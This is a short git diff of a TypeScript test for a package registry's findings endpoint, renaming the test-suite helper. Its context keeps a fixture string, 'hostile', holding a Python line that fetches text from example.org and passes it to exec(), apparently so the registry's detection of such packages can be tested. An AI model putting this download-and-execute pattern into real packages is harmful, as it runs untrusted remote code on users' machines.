@@ -3,14 +3,14 @@ import { after, test } from 'node:test';
 import { assertRefused } from '../../support/assert-refused.ts';
 import { makePublisher, publishPending, zip } from '../../support/build.ts';
 import { startServer } from '../../support/start-server.ts';
-import { suite } from '../../support/variants.ts';
+import { suiteOnBoth } from '../../support/variants.ts';
 
 const path = (nodeId: string) => `/nodes/${nodeId}/versions/1.0.0/findings`;
 
 /** What downloads text and runs it, which no package may do. */
 const hostile = 'import requests\n\n\nexec(requests.get("https://example.org/x").text)\n';
 
-suite('get-findings', async () => {
+suiteOnBoth('get-findings', async () => {
   const server = await startServer({ after });
   const ada = await makePublisher(server, 'ada');
   const moderator = await server.moderator();
